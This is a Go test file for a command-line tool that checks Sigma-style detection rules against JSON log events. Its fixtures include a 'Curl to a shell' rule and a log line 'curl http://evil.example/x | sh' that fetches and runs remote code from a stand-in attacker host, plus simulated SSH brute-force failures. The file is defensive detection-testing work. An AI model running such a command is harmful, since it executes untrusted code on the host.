package cli

import (
	"bytes"
	"encoding/json"
	"errors"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"
)

// runRulesTest runs "rules test" (not yet wired into the root command) with
// argv and returns its output and error.
func runRulesTest(t *testing.T, stdin string, argv ...string) (string, string, error) {
	t.Helper()
	g := &globals{stdin: strings.NewReader(stdin), getenv: func(string) string { return "" }}
	cmd := newRulesTestCmd(g)
	var out, errb bytes.Buffer
	cmd.SetArgs(argv)
	cmd.SetOut(&out)
	cmd.SetErr(&errb)
	cmd.SilenceUsage, cmd.SilenceErrors = true, true
	err := cmd.Execute()
	return out.String(), errb.String(), err
}

const rulesTestRule = `title: Curl to a shell
id: 0b6cb2a4-0000-4000-8000-000000000001
logsource:
  product: linux
  service: syslog
detection:
  keywords:
    - 'curl'
  filter:
    message|contains: 'trusted.example'
  condition: keywords and not filter
level: medium
`

func sshLine(sec int, outcome, ip string) string {
	return fmt.Sprintf(`{"@timestamp":"2026-12-02T10:00:%02dZ","event.dataset":"sshd","event.category":"authentication","event.action":"ssh_login","event.outcome":%q,"source.ip":%q,"user.name":"root","host.name":"web-1"}`, sec, outcome, ip)
}

func TestRulesTest(t *testing.T) {
	dir := t.TempDir()
	if err := os.MkdirAll(filepath.Join(dir, "sub"), 0o700); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(filepath.Join(dir, "sub", "curl.yml"), []byte(rulesTestRule), 0o600); err != nil {
		t.Fatal(err)
	}
	var lines []string
	lines = append(lines, `{"@timestamp":"2026-12-02T10:00:00Z","event.dataset":"syslog","message":"bash: curl http://evil.example/x | sh","host.name":"web-1"}`)
	lines = append(lines, `{"@timestamp":"2026-12-02T10:00:00Z","event.dataset":"syslog","message":"curl https://trusted.example/","host.name":"web-1"}`)
	lines = append(lines, "")
	for i := 0; i < 10; i++ {
		lines = append(lines, sshLine(i+1, "failure", "203.0.113.7"))
	}
	lines = append(lines, sshLine(30, "success", "198.51.100.1"))
	evFile := tempFile(t, "events.jsonl", strings.Join(lines, "\n")+"\n")

	out, _, err := runRulesTest(t, "", dir, "--builtin", "--events", evFile, "--format", "json")
	if err != nil {
		t.Fatal(err)
	}
	var res struct {
		Events  int `json:"events"`
		Matches []struct {
			RuleID     string `json:"rule_id"`
			Title      string `json:"title"`
			EventIndex int    `json:"event_index"`
		} `json:"matches"`
		Hits []struct {
			RuleID string            `json:"rule_id"`
			Title  string            `json:"title"`
			Group  map[string]string `json:"group"`
			Count  int64             `json:"count"`
			Refs   []uint64          `json:"event_refs"`
		} `json:"hits"`
	}
	dec := json.NewDecoder(strings.NewReader(out))
	if err := dec.Decode(&res); err != nil {
		t.Fatalf("%v\n%s", err, out)
	}
	if res.Events != 13 {
		t.Errorf("events = %d, want 13", res.Events)
	}
	curl := 0
	for _, m := range res.Matches {
		if m.Title == "Curl to a shell" {
			curl++
			if m.EventIndex != 0 {
				t.Errorf("curl rule matched event %d, want 0", m.EventIndex)
			}
		}
	}
	if curl != 1 {
		t.Errorf("curl rule matched %d events, want 1", curl)
	}
	titles := map[string]int64{}
	for _, h := range res.Hits {
		titles[h.Title] = h.Count
		if h.Title == "SSH brute force" && h.Group["source.ip"] != "203.0.113.7" {
			t.Errorf("brute force group %v", h.Group)
		}
	}
	want := map[string]int64{"Curl to a shell": 1, "SSH brute force": 10, "SSH password spraying": 0}
	for title, n := range want {
		got, ok := titles[title]
		if n == 0 {
			if ok {
				t.Errorf("unexpected alert %q", title)
			}
			continue
		}
		if got != n {
			t.Errorf("alert %q count %d, want %d (hits %v)", title, got, n, titles)
		}
	}

	// Table output, events from standard input.
	out, _, err = runRulesTest(t, strings.Join(lines, "\n"), filepath.Join(dir, "sub", "curl.yml"), "--builtin", "--events", "-")
	if err != nil {
		t.Fatal(err)
	}
	for _, s := range []string{"13 events", "Curl to a shell", "SSH brute force", "source.ip=203.0.113.7"} {
		if !strings.Contains(out, s) {
			t.Errorf("table output lacks %q:\n%s", s, out)
		}
	}
}

func TestRulesTestErrors(t *testing.T) {
	bad := tempFile(t, "bad.yml", strings.Replace(rulesTestRule, "message|contains", "message|windows-foo", 1))
	good := tempFile(t, "good.yml", rulesTestRule)
	evs := tempFile(t, "ev.jsonl", "{\"message\":\"x\"}\nnot json\n")
	tests := []struct {
		name  string
		argv  []string
		want  string
		usage bool
	}{
		{"unsupported modifier", []string{bad, "--events", evs}, `bad.yml:10: modifier "windows-foo" is not supported`, false},
		{"bad event line", []string{good, "--events", evs}, "ev.jsonl:2: not a JSON object", false},
		{"no events flag", []string{good}, "needs --events", true},
		{"no rules", []string{"--events", evs}, "needs FILE or DIR", true},
		{"missing file", []string{filepath.Join(t.TempDir(), "nope.yml"), "--events", evs}, "no such file", false},
		{"bad placeholder", []string{good, "--events", evs, "--placeholder", "x"}, "want NAME=VALUE", true},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			_, _, err := runRulesTest(t, "", tc.argv...)
			if err == nil || !strings.Contains(err.Error(), tc.want) {
				t.Fatalf("error %v, want %q", err, tc.want)
			}
			var ue *usageError
			if isUsage := errors.As(err, &ue); isUsage != tc.usage {
				t.Errorf("usage error = %v, want %v", isUsage, tc.usage)
			}
		})
	}
}
